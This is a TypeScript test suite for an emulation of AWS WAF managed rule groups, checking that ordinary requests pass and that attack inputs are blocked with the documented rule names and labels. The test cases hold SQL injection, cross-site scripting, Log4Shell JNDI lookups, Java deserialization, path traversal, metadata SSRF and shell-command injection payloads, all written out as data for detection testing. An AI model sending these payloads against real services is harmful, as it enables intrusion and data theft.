import assert from "node:assert/strict";
import fc from "fast-check";
import { benignBodies, benignValues, scripts, sqlInjections } from "./corpus";
import { acl, HOST, managed, request, withHeader } from "./requests";

const COMMON = "AWSManagedRulesCommonRuleSet";
const BAD_INPUTS = "AWSManagedRulesKnownBadInputsRuleSet";
const SQLI = "AWSManagedRulesSQLiRuleSet";
const query = (value: string): string => `q=${encodeURIComponent(value)}`;
const JSON_HEADER = ["Content-Type", "application/json"] as const;
const post = (body: string | Buffer) => withHeader(...JSON_HEADER, { method: "POST", body });

describe("managed rule groups", () => {
  const shop = managed(COMMON, BAD_INPUTS, SQLI);

  describe("let ordinary requests pass", () => {
    for (const value of benignValues) {
      it(`query value ${JSON.stringify(value)}`, () => {
        assert.equal(shop.evaluate(request({ queryString: query(value) })).rule, undefined);
      });
      it(`path segment ${JSON.stringify(value)}`, () => {
        const path = `/v1/users/${encodeURIComponent(value)}`;
        assert.equal(managed(SQLI).evaluate(request({ path })).rule, undefined);
      });
      it(`JSON value ${JSON.stringify(value)}`, () => {
        const answer = shop.evaluate(post(JSON.stringify({ note: value, list: [value] })));
        assert.equal(answer.rule, undefined);
      });
    }
    for (const body of benignBodies) {
      it(`body ${JSON.stringify(body)}`, () => {
        assert.equal(shop.evaluate(post(JSON.stringify(body))).rule, undefined);
      });
    }
    it("form fields, percent-encoded", () => {
      const answer = shop.evaluate(
        withHeader("Content-Type", "application/x-www-form-urlencoded", {
          method: "POST",
          body: "name=O%27Brien&note=select+a+colour&grant_type=client_credentials&scope=shop%2Fread",
        }),
      );
      assert.equal(answer.action, "ALLOW");
    });
    it("a browser's headers", () => {
      const base = request();
      const answer = shop.evaluate({
        ...base,
        headers: [
          ["Host", HOST],
          [
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
          ],
          ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
          ["Accept-Language", "en-GB,en;q=0.9,de;q=0.8"],
          ["Cookie", "session=eyJhbGciOi.J9.x; theme=dark; consent=a%3D1%26b%3D2; _ga=GA1.1.123.456"],
          ["Referer", "http://shop.example.com/list?sort=price&order=asc"],
          ["Sec-Ch-Ua", '"Not/A)Brand";v="8", "Chromium";v="126"'],
          ["If-None-Match", 'W/"abc"'],
        ],
      });
      assert.equal(answer.rule, undefined);
    });
  });

  describe("SQL injection", () => {
    for (const value of sqlInjections) {
      it(`in a query argument: ${value}`, () => {
        const answer = managed(SQLI).evaluate(request({ queryString: query(value) }));
        assert.equal(answer.action, "BLOCK");
        assert.match(
          answer.rule ?? "",
          /^AWSManagedRulesSQLiRuleSet\/SQLi(ExtendedPatterns)?_QUERYARGUMENTS$/,
        );
      });
      it(`in a JSON string: ${value}`, () => {
        const answer = managed(SQLI).evaluate(post(JSON.stringify({ name: value })));
        assert.match(answer.rule ?? "", /SQLi(ExtendedPatterns)?_BODY$/);
      });
    }
    it("names the label of the rule", () => {
      const answer = managed(SQLI).evaluate(withHeader("Cookie", "id=' or 1=1 --"));
      assert.deepEqual(answer.labels, ["awswaf:managed:aws:sql-database:SQLi_Cookie"]);
    });
  });

  describe("cross-site scripting", () => {
    for (const value of scripts) {
      it(value, () => {
        const answer = managed(COMMON).evaluate(request({ queryString: query(value) }));
        assert.equal(answer.rule, `${COMMON}/CrossSiteScripting_QUERYARGUMENTS`);
        const inBody = managed(COMMON).evaluate(post(JSON.stringify({ comment: value })));
        assert.equal(inBody.rule, `${COMMON}/CrossSiteScripting_BODY`);
      });
    }
  });

  const cases: readonly [string, string, ReturnType<typeof request>][] = [
    [COMMON, "NoUserAgent_HEADER", request({ headers: [["Host", HOST]] })],
    [COMMON, "UserAgent_BadBots_HEADER", request({ headers: [["User-Agent", "Nessus SOAP"]] })],
    [COMMON, "SizeRestrictions_QUERYSTRING", request({ queryString: `a=${"x".repeat(2047)}` })],
    [COMMON, "SizeRestrictions_Cookie_HEADER", withHeader("Cookie", "x".repeat(10_241))],
    [COMMON, "SizeRestrictions_BODY", request({ method: "POST", body: "x".repeat(8193) })],
    [COMMON, "SizeRestrictions_URIPATH", request({ path: `/${"x".repeat(1024)}` })],
    [
      COMMON,
      "EC2MetaDataSSRF_QUERYARGUMENTS",
      request({ queryString: "u=http://169.254.169.254/latest/meta-data" }),
    ],
    [COMMON, "EC2MetaDataSSRF_BODY", post('{"u":"http://169.254.169.254/"}')],
    [COMMON, "GenericLFI_QUERYARGUMENTS", request({ queryString: "f=..%2F..%2Fetc%2Fpasswd" })],
    [COMMON, "GenericLFI_URIPATH", request({ path: "/v1/../../etc/passwd" })],
    [COMMON, "GenericLFI_BODY", post('{"f":"../../secret"}')],
    [COMMON, "RestrictedExtensions_URIPATH", request({ path: "/logs/app.log" })],
    [COMMON, "RestrictedExtensions_QUERYARGUMENTS", request({ queryString: "f=php.ini" })],
    [COMMON, "GenericRFI_QUERYARGUMENTS", request({ queryString: "u=http://203.0.113.9/x.txt" })],
    [COMMON, "CrossSiteScripting_COOKIE", withHeader("Cookie", "a=<script>alert(1)</script>")],
    [COMMON, "CrossSiteScripting_URIPATH", request({ path: "/v1/%3Cscript%3Ealert(1)%3C/script%3E" })],
    [BAD_INPUTS, "Host_localhost_HEADER", request({ headers: [["Host", "localhost:8080"]] })],
    [BAD_INPUTS, "PROPFIND_METHOD", request({ method: "PROPFIND" })],
    [BAD_INPUTS, "ExploitablePaths_URIPATH", request({ path: "/WEB-INF/web.xml" })],
    [BAD_INPUTS, "ExploitablePaths_URIPATH", request({ path: "/.git/config" })],
    [BAD_INPUTS, "Log4JRCE_HEADER", withHeader("X-Api-Version", "${jndi:ldap://example.com/}")],
    [BAD_INPUTS, "Log4JRCE_HEADER", withHeader("X", "${${lower:j}${::-n}di:ldap://example.com/}")],
    [BAD_INPUTS, "Log4JRCE_QUERYSTRING", request({ queryString: "a=%24%7Bjndi:dns://x%7D" })],
    [BAD_INPUTS, "Log4JRCE_BODY", post('{"a":"${jndi:rmi://x}"}')],
    [BAD_INPUTS, "Log4JRCE_URIPATH", request({ path: "/$%7Bjndi:ldap://x%7D" })],
    [
      BAD_INPUTS,
      "JavaDeserializationRCE_BODY",
      post('{"a":"(java.lang.Runtime).getRuntime().exec(\\"whoami\\")"}'),
    ],
    [BAD_INPUTS, "JavaDeserializationRCE_HEADER", withHeader("X", "class.module.classLoader.resources")],
    [
      BAD_INPUTS,
      "ReactJSRCE_BODY",
      post('{"then":"$1:__proto__:then","status":"resolved_model","_response":{"_prefix":"x"}}'),
    ],
    [BAD_INPUTS, "ReactJSRCE_BODY", post('{"get":"$1:constructor:constructor"}')],
    [SQLI, "SQLi_URIPATH", request({ path: "/v1/users/1'%20or%201=1--" })],
    [SQLI, "SQLi_URIPATH", request({ path: "/v1/users/1'%20union%20select%20password%20from%20users--" })],
    [SQLI, "SQLiExtendedPatterns_URIPATH", request({ path: "/v1/users/x%20procedure%20analyse()" })],
    [SQLI, "SQLiExtendedPatterns_HEADER", withHeader("X-Id", "1 union select null from dual")],
    ["AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", request({ path: "/sqlmanager/x" })],
    ["AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", request({ queryString: "f=/proc/version" })],
    [
      "AWSManagedRulesUnixRuleSet",
      "UNIXShellCommandsVariables_QUERYSTRING",
      request({ queryString: "x=echo%20$HOME" }),
    ],
    ["AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_HEADER", withHeader("X", "echo $PATH")],
    [
      "AWSManagedRulesWindowsRuleSet",
      "WindowsShellCommands_QUERYARGUMENTS",
      request({ queryString: "x=%7C%7Cnslookup" }),
    ],
    ["AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_HEADER", withHeader("X", "a;cmd /c dir")],
    [
      "AWSManagedRulesWindowsRuleSet",
      "WindowsShellCommands_URIPATH",
      request({ path: "/v1/a%7C%7Cnslookup" }),
    ],
    ["AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_QUERYSTRING", request({ queryString: "a;cmd" })],
    ["AWSManagedRulesWindowsRuleSet", "PowerShellCommands_BODY", post('{"a":"Invoke-Expression x"}')],
    [
      "AWSManagedRulesPHPRuleSet",
      "PHPHighRiskMethodsVariables_QUERYSTRING",
      request({ queryString: "x=$_GET[a]" }),
    ],
    [
      "AWSManagedRulesPHPRuleSet",
      "PHPHighRiskMethodsVariables_URIPATH",
      request({ path: "/v1/$_GET%5Ba%5D" }),
    ],
    [
      "AWSManagedRulesWordPressRuleSet",
      "WordPressExploitablePaths_URIPATH",
      request({ path: "/xmlrpc.php" }),
    ],
  ];
  describe("documented rules", () => {
    for (const [group, rule, malicious] of cases) {
      it(`${rule} blocks ${malicious.method} ${malicious.path.slice(0, 40)}`, () => {
        const answer = managed(group).evaluate(malicious);
        assert.equal(answer.rule, `${group}/${rule}`);
        assert.equal(answer.action, "BLOCK");
        assert.equal(answer.status, undefined);
        assert.equal(answer.labels.length, 1);
      });
    }
    it("put the label that AWS writes, which is not always spelled as the rule", () => {
      const labels = (group: string, view: ReturnType<typeof request>) =>
        managed(group).evaluate(view).labels;
      assert.deepEqual(labels(SQLI, request({ path: "/v1/users/1'%20or%201=1--" })), [
        "awswaf:managed:aws:sql-database:SQLi_URIPath",
      ]);
      assert.deepEqual(labels(SQLI, request({ path: "/v1/users/x%20procedure%20analyse()" })), [
        "awswaf:managed:aws:sql-database:SQLiExtendedPatterns_UriPath",
      ]);
      assert.deepEqual(labels("AWSManagedRulesWindowsRuleSet", request({ path: "/v1/a%7C%7Cnslookup" })), [
        "awswaf:managed:aws:windows-os:WindowsShellCommands_UriPath",
      ]);
      assert.deepEqual(labels("AWSManagedRulesUnixRuleSet", request({ queryString: "x=echo%20$HOME" })), [
        "awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryString",
      ]);
    });
    it("sizes at the documented limits pass", () => {
      assert.equal(
        managed(COMMON).evaluate(request({ queryString: `a=${"x".repeat(2046)}` })).action,
        "ALLOW",
      );
      assert.equal(
        managed(COMMON).evaluate(request({ method: "POST", body: "x".repeat(8192) })).action,
        "ALLOW",
      );
      assert.equal(managed(COMMON).evaluate(request({ path: `/${"x".repeat(1023)}` })).action, "ALLOW");
    });
  });

  it("name what is a data feed, and let the request pass", () => {
    const feed = managed("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesBotControlRuleSet");
    assert.equal(feed.evaluate(request()).action, "ALLOW");
    assert.equal(feed.notices.length, 2);
    assert.match(
      feed.notices[0] ?? "",
      /nothing of it is executed; .*AWSManagedRulesAmazonIpReputationList is a list/,
    );
    assert.deepEqual(shop.notices, []);
  });

  it("can be overridden as a whole or rule by rule", () => {
    const reference = { vendorName: "AWS", name: COMMON };
    const bad = request({ path: "/v1/app.log", queryString: "f=../../x" });
    const counting = acl([
      {
        name: "core",
        priority: 0,
        overrideAction: { count: {} },
        statement: { managedRuleGroupStatement: reference },
      },
    ]);
    const counted = counting.evaluate(bad);
    assert.equal(counted.action, "ALLOW");
    assert.deepEqual(counted.counted, ["core/GenericLFI_QUERYARGUMENTS"]);
    const overridden = acl([
      {
        name: "core",
        priority: 0,
        overrideAction: { none: {} },
        statement: {
          managedRuleGroupStatement: {
            ...reference,
            ruleActionOverrides: [{ name: "GenericLFI_QUERYARGUMENTS", actionToUse: { count: {} } }],
          },
        },
      },
    ]).evaluate(bad);
    assert.equal(overridden.rule, "core/RestrictedExtensions_URIPATH");
    assert.deepEqual(overridden.counted, ["core/GenericLFI_QUERYARGUMENTS"]);
    assert.deepEqual(overridden.labels, [
      "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments",
      "awswaf:managed:aws:core-rule-set:RestrictedExtensions_URIPath",
    ]);
  });

  it("answer every request, whatever its bytes", () => {
    fc.assert(
      fc.property(
        fc.uint8Array({ maxLength: 200 }),
        fc.string({ unit: "binary", maxLength: 60 }),
        fc.string({ maxLength: 60 }),
        (body, path, queryString) => {
          const answer = shop.evaluate(
            request({ method: "POST", path: `/${path}`, queryString, body: Buffer.from(body) }),
          );
          assert.ok(answer.action === "ALLOW" || answer.action === "BLOCK");
        },
      ),
    );
  });

  it("take time linear in the value", () => {
    const started = process.hrtime.bigint();
    for (const unit of [
      "'",
      "<a ",
      "${",
      "../",
      "(select ",
      "' or ",
      "javascript",
      "/*",
      "on",
      "\\",
      "%25",
    ]) {
      const body = JSON.stringify({ a: unit.repeat(Math.floor(8000 / unit.length)) });
      shop.evaluate(request({ method: "POST", body: body.slice(0, 8192) }));
    }
    const elapsedMs = Number(process.hrtime.bigint() - started) / 1e6;
    assert.ok(elapsedMs < 10_000, `${elapsedMs} ms`);
  });
});
